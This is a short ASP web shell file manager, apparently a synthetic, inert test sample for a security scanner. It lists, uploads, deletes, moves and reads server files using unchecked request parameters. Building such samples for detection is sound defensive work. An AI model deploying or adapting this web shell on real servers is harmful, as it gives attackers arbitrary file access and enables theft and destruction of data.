<%
' synthetic test sample for breachscan: file manager: listing, upload, delete, move, read. Inert: Response.End first.
Response.End
Dim fso, f, up
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.GetFolder(Request("path"))
For Each x In f.SubFolders : Response.Write x.Name : Next
Set up = Server.CreateObject("ADODB.Stream")
up.SaveToFile Request("dest"), 2
fso.DeleteFile Request("del")
fso.MoveFile Request("src"), Request("dst")
Response.Write fso.OpenTextFile(Request("read")).ReadAll
%>
